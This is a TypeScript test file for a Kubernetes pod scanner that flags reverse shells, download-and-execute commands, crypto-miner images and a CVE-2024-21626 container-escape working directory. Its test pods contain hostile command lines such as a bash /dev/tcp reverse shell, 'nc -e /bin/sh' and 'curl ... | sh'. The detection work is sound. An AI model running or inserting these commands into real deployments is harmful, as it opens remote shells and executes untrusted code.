import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import { parse } from 'yaml';
import type { PodView } from '../../../src/engine/pod.ts';
import { indicatorRules } from '../../../src/engine/rules/indicators.ts';
import { judge } from './judge.ts';
import { sanitizePod } from '../../../src/engine/sanitize.ts';
import { cpuMs } from '../../support/cpu.ts';

const checkIndicators = (pod: PodView) => judge(indicatorRules, pod, true);

interface Sample {
  id: string;
  rule?: string;
  why?: string;
  group?: 'containers' | 'initContainers' | 'ephemeralContainers';
  container: Record<string, unknown>;
}

function corpus(name: string): Sample[] {
  const url = new URL(`../../fixtures/indicators/${name}.yaml`, import.meta.url);
  return parse(readFileSync(url, 'utf8')) as Sample[];
}

function podOf(s: Sample): PodView {
  const container = { name: 'c', image: 'registry.example.com/app:1.0', ...s.container };
  const spec: Record<string, unknown> = {
    containers: [],
    initContainers: [],
    ephemeralContainers: [],
  };
  spec[s.group ?? 'containers'] = [container];
  const pod = sanitizePod({ apiVersion: 'v1', kind: 'Pod', metadata: { name: s.id }, spec });
  if (!pod) throw new Error(`sample ${s.id} is not a pod`);
  return pod.pod;
}

function container(fields: Record<string, unknown>): PodView {
  return podOf({ id: 't', container: fields });
}

const malicious = corpus('malicious');
const benign = corpus('benign');

describe('indicators: precision/recall corpus', () => {
  it('has a corpus of useful size with unique ids', () => {
    expect(malicious.length).to.be.at.least(40);
    expect(benign.length).to.be.at.least(40);
    const ids = [...malicious, ...benign].map((s) => s.id);
    expect(new Set(ids).size).to.equal(ids.length);
  });

  it('fires the expected rule on every malicious sample (recall 100%)', () => {
    const missed = malicious.filter(
      (s) => !checkIndicators(podOf(s)).some((f) => f.rule === s.rule),
    );
    expect(missed.map((s) => `${s.id} (${s.rule})`)).to.deep.equal([]);
  });

  it('fires nothing on any benign sample (precision 100%)', () => {
    const noisy = benign
      .map((s) => ({ id: s.id, findings: checkIndicators(podOf(s)) }))
      .filter((r) => r.findings.length > 0)
      .map((r) => `${r.id}: ${r.findings.map((f) => f.message).join(' | ')}`);
    expect(noisy).to.deep.equal([]);
  });

  it('reports the figures', () => {
    const tp = malicious.filter((s) =>
      checkIndicators(podOf(s)).some((f) => f.rule === s.rule),
    ).length;
    const fp = benign.filter((s) => checkIndicators(podOf(s)).length > 0).length;
    const precision = tp / Math.max(1, tp + fp);
    const recall = tp / malicious.length;
    console.log(
      `      corpus: ${malicious.length} malicious, ${benign.length} benign; ` +
        `recall ${(recall * 100).toFixed(1)}%, precision ${(precision * 100).toFixed(1)}%`,
    );
    expect(recall).to.equal(1);
    expect(precision).to.equal(1);
  });
});

describe('indicators: findings', () => {
  it('names the rule, container, field path and idiom', () => {
    const f = checkIndicators(
      container({
        name: 'web',
        command: ['sh', '-c'],
        args: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
      }),
    );
    expect(f).to.have.length(1);
    expect(f[0]).to.include({
      rule: 'indicator.reverseShell',
      container: 'web',
      path: 'spec.containers[0].args',
    });
    expect(f[0]?.message).to.contain('/dev/tcp').and.contain('bash -i');
  });

  it('points at the command when the idiom is there', () => {
    const f = checkIndicators(
      container({ command: ['nc', '-e', '/bin/sh', '192.0.2.1', '1'], args: ['-v'] }),
    );
    expect(f.map((x) => x.path)).to.deep.equal(['spec.containers[0].command']);
  });

  it('points at probe and lifecycle exec commands', () => {
    const f = checkIndicators(
      container({
        readinessProbe: { exec: { command: ['sh', '-c', 'curl -s http://x/a | sh'] } },
        lifecycle: { preStop: { exec: { command: ['nc', '192.0.2.1', '4', '-e', 'sh'] } } },
      }),
    );
    expect(f.map((x) => `${x.rule} ${x.path}`)).to.have.members([
      'indicator.downloadExec spec.containers[0].readinessProbe.exec.command',
      'indicator.reverseShell spec.containers[0].lifecycle.preStop.exec.command',
    ]);
  });

  it('reports image, workingDir and init/ephemeral container paths', () => {
    const raw = {
      kind: 'Pod',
      metadata: { name: 'p' },
      spec: {
        containers: [{ name: 'a', image: 'registry.example.com/app:1' }],
        initContainers: [{ name: 'i', image: 'xmrig/xmrig:6.21.0' }],
        ephemeralContainers: [{ name: 'e', image: 'busybox', workingDir: '/proc/self/./fd/8' }],
      },
    };
    const f = checkIndicators(sanitizePod(raw)!.pod);
    expect(f.map((x) => `${x.rule} ${x.container} ${x.path}`)).to.deep.equal([
      'indicator.miner i spec.initContainers[0].image',
      'indicator.procFdWorkingDir e spec.ephemeralContainers[0].workingDir',
    ]);
    expect(f[1]?.message).to.contain('"/proc/self/fd/8"').and.contain('CVE-2024-21626');
  });

  it('quotes at most ~100 characters of attacker text, with control characters escaped', () => {
    const payload = `curl -s http://x/${'a'.repeat(500)}\u202e\u0007 | sh`;
    const [f] = checkIndicators(container({ command: ['sh', '-c', payload] }));
    expect(f?.message.length).to.be.below(250);
    expect(f?.message).to.not.contain('aaaa'.repeat(30));
    const [g] = checkIndicators(
      container({ command: ['sh', '-c', 'curl -s http://x/\u0007 | sh'] }),
    );
    expect(g?.message).to.contain('\\u0007').and.not.contain('\u0007');
  });

  it('fires nothing on an ordinary container', () => {
    expect(checkIndicators(podOf({ id: 'x', container: {} }))).to.deep.equal([]);
  });
});

describe('indicators: cost', () => {
  it('stays a few microseconds on a realistic pod (gates before regexes)', () => {
    const raw = {
      kind: 'Pod',
      metadata: { name: 'web-7d4b9c-x2x', namespace: 'shop' },
      spec: {
        initContainers: [
          {
            name: 'migrate',
            image: 'registry.example.com/shop/api:1.4.2',
            command: [
              'sh',
              '-c',
              'python manage.py migrate --noinput && python manage.py collectstatic --noinput',
            ],
          },
        ],
        containers: [
          {
            name: 'api',
            image: 'registry.example.com/shop/api:1.4.2',
            command: ['gunicorn'],
            args: ['-w', '4', '-b', '0.0.0.0:8000', '--timeout', '30', 'shop.wsgi:application'],
            workingDir: '/app',
            readinessProbe: {
              exec: { command: ['sh', '-c', 'curl -fsS http://localhost:8000/ready || exit 1'] },
            },
          },
          {
            name: 'nginx',
            image: 'docker.io/library/nginx:1.27',
            command: ['nginx', '-g', 'daemon off;'],
            lifecycle: { preStop: { exec: { command: ['sh', '-c', 'sleep 5 && nginx -s quit'] } } },
          },
        ],
      },
    };
    const pod = sanitizePod(raw)!.pod;
    for (let i = 0; i < 2000; i++) checkIndicators(pod);
    let best = Infinity;
    for (let r = 0; r < 5; r++) {
      const n = 2000;
      const ms = cpuMs(() => {
        for (let i = 0; i < n; i++) checkIndicators(pod);
      });
      best = Math.min(best, (ms * 1000) / n);
    }
    if (process.env.DEPLOYGUARD_SHOW_TIMINGS)
      console.log(`      checkIndicators: ${best.toFixed(2)} µs/pod`);
    // Measured 4-9 µs on a busy 2-core CI machine; the bound only catches a lost gate.
    expect(best).to.be.below(100);
  });
});
